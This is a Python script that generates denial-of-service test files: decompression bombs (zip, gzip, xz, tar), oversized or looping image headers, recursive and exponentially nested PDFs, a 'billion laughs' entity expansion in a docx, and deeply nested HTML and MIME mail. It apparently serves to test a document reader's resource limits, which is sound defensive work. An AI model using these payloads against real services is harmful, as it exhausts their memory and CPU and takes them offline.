#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-3.0-or-later
"""Writes small files that ask a reader for far more time or memory than they are worth.

bombs.py FOLDER [WORD...]   only those whose name has one of the words
"""
import gzip
import io
import lzma
import os
import struct
import sys
import tarfile
import zipfile
import zlib

BOMBS = {}


def bomb(name):
    def remember(make):
        BOMBS[name] = make
        return make
    return remember


# Pictures ---------------------------------------------------------------------


def squeeze(size, byte=b"\0"):
    """zlib's bytes of so many times the same."""
    packer = zlib.compressobj(9)
    block = byte * (1 << 20)
    packed = [packer.compress(block) for _ in range(size >> 20)]
    packed.append(packer.compress(byte * (size & ((1 << 20) - 1))))
    return b"".join(packed) + packer.flush()


def png(width, height, depth, colour, raw):
    def chunk(kind, body):
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))

    header = struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0)
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", squeeze(raw)) + chunk(b"IEND", b""))


@bomb("png-of-a-billion-pixels.png")
def png_of_a_billion_pixels():
    return png(40000, 25000, 1, 0, 25000 * (1 + 5000))


@bomb("png-just-allowed.png")
def png_just_allowed():
    """As many pixels as a page may have, at 64 bits each: 800 MB from 800 kB."""
    return png(10000, 9990, 16, 6, 9990 * (1 + 80000))


def tiff_directory(tags, next_at):
    body = b"".join(struct.pack("<HHII", tag, kind, 1, value) for tag, kind, value in sorted(tags))
    return struct.pack("<H", len(tags)) + body + struct.pack("<I", next_at)


@bomb("tiff-of-a-billion-pixels.tif")
def tiff_of_a_billion_pixels():
    tags = [(256, 4, 40000), (257, 4, 25000), (258, 3, 1), (259, 3, 4), (262, 3, 0), (273, 4, 8), (277, 3, 1),
            (278, 4, 25000), (279, 4, 8)]
    return b"II*\0" + struct.pack("<I", 16) + b"\0" * 8 + tiff_directory(tags, 0)


@bomb("tiff-deflated.tif")
def tiff_deflated():
    data = squeeze(9990 * 10000 * 3)
    tags = [(256, 4, 10000), (257, 4, 9990), (258, 3, 8), (259, 3, 8), (262, 3, 2), (273, 4, 8), (277, 3, 3),
            (278, 4, 9990), (279, 4, len(data))]
    return b"II*\0" + struct.pack("<I", 8 + len(data)) + data + tiff_directory(tags, 0)


@bomb("tiff-that-loops.tif")
def tiff_that_loops():
    """The directory after the first is the first; one strip of the whole file claims a huge length."""
    tags = [(256, 4, 100), (257, 4, 100), (258, 3, 1), (259, 3, 1), (262, 3, 0), (273, 4, 8), (277, 3, 1),
            (278, 4, 100), (279, 4, 0xfffffff0)]
    return b"II*\0" + struct.pack("<I", 16) + b"\0" * 8 + tiff_directory(tags, 16)


@bomb("gif-of-many-frames.gif")
def gif_of_many_frames():
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 9000, 9000, 0) + b"\x08" + b"\x04\0\1\4\5" + b"\0"
    return b"GIF89a" + struct.pack("<HHBBB", 9000, 9000, 0xf0, 0, 0) + b"\0\0\0\xff\xff\xff" + frame * 2000 + b";"


@bomb("webp-as-large-as-can-be.webp")
def webp_as_large_as_can_be():
    size = 16383 - 1
    header = b"\x2f" + struct.pack("<I", size | size << 14)
    chunk = header + b"\0" * 100
    return b"RIFF" + struct.pack("<I", 4 + 8 + len(chunk)) + b"WEBPVP8L" + struct.pack("<I", len(chunk)) + chunk


@bomb("bmp-of-a-billion-pixels.bmp")
def bmp_of_a_billion_pixels():
    header = struct.pack("<IiiHHIIiiII", 40, 40000, 25000, 1, 24, 0, 0, 2835, 2835, 0, 0)
    return b"BM" + struct.pack("<IHHI", 54 + 100, 0, 0, 54) + header + b"\0" * 100


@bomb("pnm-of-a-billion-pixels.pgm")
def pnm_of_a_billion_pixels():
    return b"P5\n40000 25000\n255\n" + b"\0" * 100


def jpeg_segment(marker, body):
    return b"\xff" + bytes([marker]) + struct.pack(">H", len(body) + 2) + body


@bomb("jpeg-of-many-scans.jpg")
def jpeg_of_many_scans():
    """A progressive JPEG that says the same of all its blocks again and again (ITU T.81, G.1.2.3)."""
    width, height = 9984, 9984
    blocks = (width // 8) * (height // 8)
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\1\x11\0"
    # One code of one bit: DC "no difference", AC "end of 2^14 and more blocks" (EOB14).
    dc = b"\0" + b"\1" + b"\0" * 15 + b"\0"
    ac = b"\x10" + b"\1" + b"\0" * 15 + b"\xe0"
    first = jpeg_segment(0xda, b"\1\1\0\0\0\0") + b"\0" * (blocks // 8 + 1)
    runs = -(-blocks // 0x4000)
    scan = jpeg_segment(0xda, b"\1\1\0\1\x3f\0") + b"\0" * (runs * 15 // 8 + 1)
    return (b"\xff\xd8" + jpeg_segment(0xdb, b"\0" + b"\1" * 64) + jpeg_segment(0xc2, frame)
            + jpeg_segment(0xc4, dc) + jpeg_segment(0xc4, ac) + first + scan * 3000 + b"\xff\xd9")


# PDF --------------------------------------------------------------------------


def stream(body, entries=""):
    if isinstance(body, str):
        body = body.encode()
    return f"<< /Length {len(body)} {entries} >>\nstream\n".encode() + body + b"\nendstream"


def pdf(objects):
    """objects: bodies of 1, 2, ... of which 1 is the catalogue."""
    out, offsets = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n".encode() + (body.encode() if isinstance(body, str) else body) + b"\nendobj\n"
    start = len(out)
    table = "".join(f"{offset:010d} 00000 n \n" for offset in offsets)
    return out + (f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}"
                  f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n").encode()


def one_page(content, resources="", others=(), entries="", box="0 0 595 842"):
    """Objects from 5 on are the others."""
    return pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                f"<< /Type /Page /Parent 2 0 R /MediaBox [{box}] /Contents 4 0 R /Resources << {resources} >> >>",
                stream(content, entries), *others])


@bomb("pdf-pages-in-a-ring.pdf")
def pdf_pages_in_a_ring():
    return pdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 5 >>",
                "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 5 >>"])


@bomb("pdf-form-within-itself.pdf")
def pdf_form_within_itself():
    form = "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /F 5 0 R >> >>"
    return one_page("/F Do", "/XObject << /F 5 0 R >>", [stream("/F Do 0 0 10 10 re f", form)])


@bomb("pdf-forms-by-the-power-of-ten.pdf")
def pdf_forms_by_the_power_of_ten():
    forms = []
    for level in range(9):
        inner = f"/Resources << /XObject << /F {6 + level} 0 R >> >>" if level < 8 else ""
        body = "/F Do " * 10 if level < 8 else "0 0 1 1 re f"
        forms.append(stream(body, f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] {inner}"))
    return one_page("/F Do", "/XObject << /F 5 0 R >>", forms)


@bomb("pdf-endless-dashes.pdf")
def pdf_endless_dashes():
    return one_page("[0.0001 0.0001] 0 d 1 w 0 0 m 595 842 l S")


TINY_TILES = ("/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001"
              " /Resources << >>")


@bomb("pdf-pattern-of-points.pdf")
def pdf_pattern_of_points():
    return one_page("/Pattern cs /P scn 0 0 595 842 re f", "/Pattern << /P 5 0 R >>",
                    [stream("0 0 1 1 re f", TINY_TILES)])


@bomb("pdf-shaded-by-a-program.pdf")
def pdf_shaded_by_a_program():
    program = "{ " + "dup mul sin cos " * 20000 + " pop }"
    function = "/FunctionType 4 /Domain [0 1 0 1] /Range [0 1]"
    return one_page("/S sh", "/Shading << /S << /ShadingType 1 /ColorSpace /DeviceGray /Domain [0 1 0 1]"
                    " /Matrix [595 0 0 842 0 0] /Function 5 0 R >> >>", [stream(program, function)])


@bomb("pdf-picture-of-a-billion-pixels.pdf")
def pdf_picture_of_a_billion_pixels():
    image = ("/Type /XObject /Subtype /Image /Width 40000 /Height 25000 /BitsPerComponent 1 /ColorSpace /DeviceGray"
             " /Filter /FlateDecode")
    return one_page("595 0 0 842 0 0 cm /I Do", "/XObject << /I 5 0 R >>", [stream(squeeze(125000000), image)])


@bomb("pdf-packed-three-times.pdf")
def pdf_packed_three_times():
    """What a page draws: 2 GB of blanks, from some hundred bytes."""
    inner = zlib.compress(squeeze(2 << 30, b" "), 9)
    return one_page(zlib.compress(inner, 9), entries="/Filter [/FlateDecode /FlateDecode /FlateDecode]")


@bomb("pdf-page-as-large-as-a-town.pdf")
def pdf_page_as_large_as_a_town():
    return one_page("0 0 1000 1000 re f", box="0 0 10000000 10000000")


@bomb("pdf-of-slow-pages.pdf")
def pdf_of_slow_pages():
    """Many pages that each take as long as a page may."""
    kids = " ".join(f"{5 + i} 0 R" for i in range(50))
    page = ("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R"
            " /Resources << /Pattern << /P 4 0 R >> >> >>")
    return pdf(["<< /Type /Catalog /Pages 2 0 R >>", f"<< /Type /Pages /Kids [{kids}] /Count 50 >>",
                stream("/Pattern cs /P scn 0 0 595 842 re f"), stream("0 0 1 1 re f", TINY_TILES), *[page] * 50])


# Archives ---------------------------------------------------------------------


@bomb("gzip-of-zeros.gz")
def gzip_of_zeros():
    block = gzip.compress(bytes(1 << 26), 9)
    return block * 40  # one after the other they are one file of 2.5 GiB


@bomb("zip-of-zeros.zip")
def zip_of_zeros():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        with packed.open("nol.bin", "w", force_zip64=True) as member:
            for _ in range(300):
                member.write(bytes(1 << 20))
    return out.getvalue()


@bomb("zip-of-too-many.zip")
def zip_of_too_many():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for number in range(100100):
            packed.writestr(f"{number}", "")
    return out.getvalue()


@bomb("zips-in-zips.zip")
def zips_in_zips():
    data, name = b"Surat di dasar\n", "dasar.txt"
    for level in range(20):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
            packed.writestr(name, data)
        data, name = out.getvalue(), f"lapis-{level}.zip"
    return data


@bomb("zips-by-the-power-of-fifty.zip")
def zips_by_the_power_of_fifty():
    """Few bytes, kept once; but each of them has 50 names in each of 50 archives in ..."""
    data, name = b"Surat di dasar\n", "dasar-%d.txt"
    for level in range(5):
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
            for number in range(50):
                packed.writestr(name % number, data)
        data, name = out.getvalue(), f"lapis-{level}-%d.zip"
    return data


@bomb("zip-of-swelling-zips.zip")
def zip_of_swelling_zips():
    """None of the archives in it goes beyond what an archive may: 40 of 60 MB make 2.4 GB of 2.5 MB."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        for number in range(40):
            body = gzip.compress(b"%d" % number + bytes(60 << 20), 9)
            packed.writestr(f"nol-{number}.bin.gz", body)
    return out.getvalue()


@bomb("xz-with-a-dictionary-of-a-gibibyte.xz")
def xz_with_a_dictionary_of_a_gibibyte():
    """The header asks for the dictionary, which the packer did not need."""
    packed = bytearray(lzma.compress(b"Surat\n" * 100, preset=0))
    # xz 1.0.4: block header at 12: size, flags, filter id 0x21, size of properties 1, dictionary size, padding, CRC32
    packed[16] = 39  # 3 GiB (5.3.1)
    size = (packed[12] + 1) * 4
    packed[12 + size - 4:12 + size] = struct.pack("<I", zlib.crc32(bytes(packed[12:12 + size - 4])))
    return bytes(packed)


@bomb("tar-of-a-hole.tar")
def tar_of_a_hole():
    header = bytearray(tarfile.TarInfo("lubang.bin").tobuf(tarfile.GNU_FORMAT))
    header[156:157] = b"S"
    header[124:136] = b"00000001000\0"
    header[386:410] = b"77777777000\0" b"00000001000\0"
    header[483:495] = b"100000000000"
    header[148:156] = b" " * 8
    header[148:156] = b"%06o\0 " % sum(header[:512])
    return bytes(header) + bytes(1024)


# Documents --------------------------------------------------------------------


def docx(document):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/'
                        'package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxml'
                        'formats-package.relationships+xml"/><Override PartName="/word/document.xml" ContentType="app'
                        'lication/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>')
        packed.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/'
                        'package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
                        'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
                        '</Relationships>')
        packed.writestr("word/document.xml", document)
    return out.getvalue()


WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


@bomb("docx-of-laughter.docx")
def docx_of_laughter():
    entities = '<!ENTITY a0 "haha">' + "".join(
        f'<!ENTITY a{i} "{"&a%d;" % (i - 1) * 10}">' for i in range(1, 10))
    return docx(f'<?xml version="1.0"?><!DOCTYPE w:document [{entities}]><w:document {WORD}><w:body><w:p><w:r>'
                "<w:t>&a9;</w:t></w:r></w:p></w:body></w:document>")


@bomb("docx-of-blanks.docx")
def docx_of_blanks():
    return docx(f'<?xml version="1.0"?><w:document {WORD}><w:body><w:p><w:r><w:t>' + " " * (400 << 20)
                + "</w:t></w:r></w:p></w:body></w:document>")


@bomb("html-as-deep-as-a-well.html")
def html_as_deep_as_a_well():
    return b"<!DOCTYPE html><html><body>" + b"<div><table><tr><td>" * 200000 + b"Surat"


@bomb("mail-as-deep-as-a-well.eml")
def mail_as_deep_as_a_well():
    out = ["From: a@contoh.go.id\nTo: b@contoh.go.id\nSubject: Surat\nDate: Tue, 12 Mar 2024 09:00:00 +0700\n"
           "MIME-Version: 1.0\n"]
    for level in range(20000):
        out.append(f'Content-Type: multipart/mixed; boundary="b{level}"\n\n--b{level}\n')
    return "".join(out).encode() + b"Content-Type: text/plain\n\nSurat\n"


@bomb("text-without-an-end.txt")
def text_without_an_end():
    return b"surat" * (40 << 20)


def main():
    folder, words = sys.argv[1], sys.argv[2:]
    os.makedirs(folder, exist_ok=True)
    for name, make in BOMBS.items():
        if not words or any(word in name for word in words):
            with open(os.path.join(folder, name), "wb") as file:
                file.write(make())


if __name__ == "__main__":
    main()
